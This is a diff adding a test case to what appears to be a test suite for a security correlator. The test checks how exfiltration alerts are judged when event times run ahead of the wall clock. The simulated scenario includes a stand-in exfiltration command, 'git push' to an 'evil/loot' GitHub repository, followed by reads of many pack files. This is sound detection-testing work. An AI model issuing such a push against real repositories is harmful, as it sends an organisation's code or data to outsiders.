@@ -66,6 +66,24 @@ describe('clock trouble and disorder in the correlator', () => {
     }
   });
 
+  it('live: a push ahead of a wall clock that lags the events (the demo replay clock) is judged on its own time', () => {
+    // The push and its reads are 30 min ahead of the wall clock the correlator is given: not a jump of its
+    // clock (< 24 h), so judged at its own time with every read; judged on the clock as it was, it was judged
+    // once the reads moved the clock, on the first 15 of them (low), as the demo's python-requests-upload was.
+    const wallMs = Date.now();
+    const s = new Scenario({ startMs: wallMs - 5_000 });
+    const c = s.container();
+    const init = s.init(c);
+    s.exec(c, '/bin/date', '', { parent: init });
+    s.wait(30 * 60_000);
+    const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: init });
+    for (let i = 0; i < 600; i++) s.read(git, `/work/repo/.git/objects/pack/p-${i}.pack`, 256 * 1024).wait(1);
+    const { correlator } = makeCorrelator();
+    correlator.advance(wallMs);
+    const alerts = [...correlator.ingest(s.events), ...correlator.advance(wallMs + 32 * 60_000), ...correlator.flush()];
+    expect(alerts.map(shape)).toEqual(run(pushThenReads('none')).alerts.map(shape));
+  });
+
   it("a push stamped alone far in the future is judged on its node's clock, not held until shutdown", () => {
     for (const mode of ['live', 'scan'] as const) {
       const s = new Scenario();
